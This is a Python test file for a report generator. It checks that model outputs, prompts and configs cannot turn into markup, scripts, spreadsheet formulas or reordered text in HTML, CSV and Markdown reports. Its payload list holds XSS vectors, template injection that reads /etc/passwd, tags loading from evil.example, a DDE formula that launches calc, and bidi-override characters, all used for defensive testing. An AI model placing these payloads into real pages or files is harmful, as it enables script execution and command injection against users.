"""No text of a model, prompt or config can become markup, a script or a formula, or change the reading order."""

import base64
import csv
import hashlib
import io
import json
import re
from html.parser import HTMLParser

import pytest

from lwexp.report import compare
from lwexp.text.cells import csv_cell, markdown_cell
from lwexp.text.plain import visible
from tests.report import report_runs

PAYLOADS = [
    "<script>alert(1)</script>",
    "</pre></div></section><script src=//evil.example/x.js></script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)><"',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202etxt.exe\u202c \u2066hidden\u2069 \u200fmark",
    "nul \x00 bell \x07 escape \x1b[31m",
    "$\\frac{1}{0}$ $unclosed",
    "=cmd|'/c calc'!A1",
    "| a | b |\n|---|---|",
]  # fmt: skip
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Tags(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.texts.append(data)


def hash_of(text: str) -> str:
    """What the policy calls a script by."""
    return "sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


def dangers(page: str) -> list[str]:
    """What could run or load something."""
    bad = [body for body in re.findall("<script>(.*?)</script>", page, flags=re.S) if hash_of(body) not in page]
    for tag, attributes in Tags(page).tags:
        if tag == "script" and set(attributes) <= {"type", "id"} and attributes.get("type") != "text/javascript":
            continue  # data, or the page's own script, whose hash the policy names
        if tag == "form" and attributes == {"class": "search-form", "id": "filters"}:
            continue  # the reader's own filters; the policy lets no form be sent
        if tag in ("script", "iframe", "object", "embed", "link", "base", "form", "img", "audio", "video"):
            bad.append(tag)
        bad += [name for name in attributes if name.startswith("on") or name in ("srcdoc", "action", "autofocus")]
        links = [attributes.get(name) or "" for name in ("href", "xlink:href", "src")]
        bad += [link for link in links if link and not link.startswith("#")]
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            bad.append("refresh")
    return bad


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A report in which everything that comes from outside is hostile."""
    root = tmp_path_factory.mktemp("hostile")
    for number, payload in enumerate(PAYLOADS[:6] + PAYLOADS[21:25]):
        bad = {"name": payload, "command": payload, "git": {"commit": payload, "dirty": True}, "python": payload}
        report_runs.training(root, f"t{number}-00000001", parents=[f"<b>{number}"], max_train_words=60, **bad)
        config = {"mixture": {"x<script>": payload}, "seed": number}
        (root / f"t{number}-00000001" / "config.json").write_text(json.dumps(config))
        path = report_runs.evaluation(
            root, f"e{number}-00000002", f"t{number}-00000001", lambda r, g: 5, repeats=1, lengths=(50, 100)
        )
        rows, verdicts = [], []
        for at, text in enumerate(PAYLOADS):
            row = report_runs.response(
                f"{at:02}{text}", required=50 + at % 8, text=text, prompt=text, type=text, words=at, model=text,
                language="zh" if at % 2 else "en",
            )  # fmt: skip
            rows.append(row)
            verdicts += report_runs.verdicts(row, reason=text, judge=PAYLOADS[0])
        report_runs.write_jsonl(path / "responses.jsonl", rows)
        report_runs.write_jsonl(path / "verdicts.jsonl", verdicts)
    return compare([root], root / "report.html")


def test_hostile_text_stays_text(hostile):
    page = hostile.read_text(encoding="utf-8")
    assert dangers(page) == []
    shown = "".join(Tags(page).texts)
    for text in ("<script>alert(1)</script>", "{{ 7 * 7 }}", "&lt;script&gt;", "$unclosed"):
        assert text in shown


def test_the_detector_sees_each_kind_of_danger():
    """Negative control: unescaped, these payloads are found."""
    seen = [bool(dangers(f"<p>{payload}</p>")) for payload in PAYLOADS[:4] + PAYLOADS[7:8] + PAYLOADS[15:19]]
    assert all(seen)


def test_hidden_characters_are_spelled_out(hostile):
    page = hostile.read_text(encoding="utf-8")
    assert not HIDDEN.search(page)
    assert "[U+202E]txt.exe[U+202C]" in page


def test_the_page_may_run_its_own_script_and_load_nothing(hostile):
    policy = next(a for tag, a in Tags(hostile.read_text()).tags if a.get("http-equiv") == "Content-Security-Policy")
    content = policy["content"]
    assert content is not None
    assert content.startswith("default-src 'none';")
    scripts = re.findall(r"script-src ([^;]*);", content)
    assert len(scripts) == 1
    assert re.fullmatch(r"'sha256-[\w+/]{43}='", scripts[0])


def test_the_csv_of_a_hostile_report_holds_no_formula(hostile):
    rows = list(csv.reader(io.StringIO(hostile.with_suffix(".csv").read_text(encoding="utf-8-sig"))))
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if re.match(r"[=+@\t]|-\D", cell)]


def test_the_markdown_of_a_hostile_report_holds_no_markup(hostile):
    text = hostile.with_suffix(".md").read_text(encoding="utf-8")
    assert "<" not in text
    assert not re.search(r"(?<!\\)\]\(", text)
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert len({len(re.findall(r"(?<!\\)\|", row)) for row in rows}) == 1


def test_summary_of_a_hostile_report_is_json(hostile):
    assert len(json.loads((hostile.parent / "summary.json").read_text())["models"]) == 10


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\uff1d1", "-2+3"])
def test_formulas_in_csv_are_defused(value):
    defused = csv_cell(value)
    assert isinstance(defused, str)
    assert defused.startswith("'")


@pytest.mark.parametrize("value", ["long", "a=b", "1", "\u4e2d\u6587"])
def test_plain_cells_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_numbers_in_csv_stay_numbers_and_nothing_is_not_zero():
    assert [csv_cell(value) for value in (-1.5, 0, None, True)] == [-1.5, 0, "", True]


def test_markdown_cells_cannot_leave_their_table():
    assert markdown_cell("a|b\nc") == "a\\|b c"
    assert markdown_cell("<b>&") == "&lt;b&gt;&amp;"


def test_ordinary_text_is_left_alone():
    text = (
        "Tabs\tand\nlines, \u4e2d\u6587, \u0627\u0644\u0639\u0631\u0628\u064a\u0629, emoji \U0001f600\u200d\U0001f4bb"
    )
    assert visible(text) == text
    assert visible("a\r\nb\rc") == "a\nb\nc"
    assert visible("x\ud800y") == "x[U+D800]y"
